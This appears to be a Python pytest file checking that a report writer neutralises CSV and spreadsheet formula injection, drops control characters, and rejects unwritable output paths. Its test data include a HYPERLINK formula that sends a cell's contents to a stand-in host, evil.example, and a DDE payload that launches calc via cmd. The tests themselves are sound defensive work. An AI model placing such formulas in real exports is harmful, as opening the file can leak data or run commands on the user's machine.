"""Reports never carry a live formula, and text that an .xlsx cannot hold never aborts a report.

OWASP CSV injection: a cell that starts with '=', '+', '-', '@', tab or CR is read as a formula by
spreadsheet programs. Center names, lead units, ledger references and actors come from outside the
bureau, so each is written as inert text.
"""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from centers.errors import BadInput
from centers.reports import Report, write_report

HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "lead_unit": "+1+cmd|' /C calc'!A0",
    "reference": "-2+3",
    "actor": "@SUM(1,1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}
AT = datetime(2026, 11, 29, 2, tzinfo=timezone.utc)


def _report(**extra: object) -> Report:
    row = {**HOSTILE, "amount_yuan": Decimal("-1500.00"), **extra}
    return Report("status", "t", [(k, k) for k in row], [row])


def test_csv_cells_that_start_a_formula_are_written_as_text(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    write_report(_report(), "csv", str(out), io.StringIO(), AT)
    header, row = list(csv.reader(out.open(encoding="utf-8-sig", newline="")))
    cells = dict(zip(header, row))
    for key, value in HOSTILE.items():
        assert cells[key] == "'" + value, key  # OWASP: prefixed with a single quote
    assert cells["amount_yuan"] == "-1500.00"  # a number is not an injection; it stays a number


def test_xlsx_has_no_formula_cell_and_keeps_the_text(tmp_path: Path) -> None:
    out = tmp_path / "r.xlsx"
    write_report(_report(), "xlsx", str(out), io.StringIO(), AT)
    sheet = load_workbook(out)["status"]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2]))
    for key, value in HOSTILE.items():
        assert cells[key].data_type == "s", key  # text, not "f"
        assert cells[key].value == value.replace("\r", "\n"), key  # as typed (XML stores CR as a line break)
        assert cells[key].quotePrefix, key  # and Excel will not re-read it as a formula on edit
    assert cells["amount_yuan"].data_type == "n"
    formulas = [c.coordinate for r in load_workbook(out).worksheets for row in r.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_are_dropped_not_fatal(tmp_path: Path, fmt: str) -> None:
    """One \\x0b in a center name used to abort the whole status board (openpyxl IllegalCharacterError)."""
    out = tmp_path / f"r.{fmt}"
    write_report(_report(name="舟山\x0b新材料\x00中心\x1f"), fmt, str(out), io.StringIO(), AT)
    if fmt == "csv":
        text = out.read_text(encoding="utf-8-sig")
    else:
        text = " ".join(str(c.value) for row in load_workbook(out)["status"].iter_rows() for c in row)
    assert "舟山新材料中心" in text
    assert not any(ch in text for ch in "\x0b\x00\x1f")


def test_unwritable_out_is_bad_input(tmp_path: Path) -> None:
    """`--out` into a directory that cannot be written: bad input at the door (exit 2), nothing written."""
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    with pytest.raises(BadInput, match="--out"):
        write_report(_report(), "csv", str(tmp_path), io.StringIO(), AT)  # a directory, not a file
    with pytest.raises(BadInput, match="--out"):
        write_report(_report(), "csv", str(tmp_path / "missing" / "r.csv"), io.StringIO(), AT)
    with pytest.raises(BadInput, match="--out"):  # the "directory" is a file: the OS refuses (as for no permission)
        write_report(_report(), "xlsx", str(a_file / "r.xlsx"), io.StringIO(), AT)
    assert a_file.read_text() == "x"
